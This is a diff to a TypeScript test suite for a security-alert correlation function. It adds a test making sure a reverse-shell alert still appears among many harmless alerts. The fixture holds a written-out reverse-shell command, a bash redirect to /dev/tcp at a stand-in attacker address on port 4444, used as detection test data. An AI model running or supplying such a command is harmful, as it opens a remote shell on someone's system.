@@ -14,7 +14,7 @@ function neighbour(seconds: number, fields: Parameters<typeof alertFrom>[0]): Al
   return { ...alertFrom({ _rule: "Other", "container.id": "4f2b8c1d9e07", ...fields }), time };
 }
 
-const related = (neighbours: readonly Alert[]) => relatedOf(readFacts(own), atNs, neighbours);
+const related = (neighbours: readonly Alert[]) => relatedOf(readFacts(own), atNs, neighbours).related;
 
 describe("what belongs to an alert", () => {
   it("stands there once with its number, at its nearest, in the order of time", () => {
@@ -43,6 +43,20 @@ describe("what belongs to an alert", () => {
     const found = related([...crowd, neighbour(600, { "proc.cmdline": "in the container" })]);
     assert.equal(found.length, 40);
     assert.equal(found.filter(({ relation }) => relation === "container").length, 1);
+  });
+
+  it("shows an attack whatever many harmless alerts are nearer", () => {
+    const crowd = Array.from({ length: 600 }, (_, turn) =>
+      neighbour(-turn / 10, { _rule: "Noise", "proc.cmdline": `true ${turn}` }),
+    );
+    const attack = neighbour(-300, {
+      _rule: "Reverse shell",
+      "proc.cmdline": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    });
+    const { related: found, leftOut } = relatedOf(readFacts(own), atNs, [...crowd, attack]);
+    assert.equal(found.length, 40);
+    assert.equal(leftOut, 561);
+    assert.ok(found.some(({ alert }) => alert.rule === "Reverse shell"));
   });
 
   it("has the rule's other deeds and not the alert's own repeats", () => {
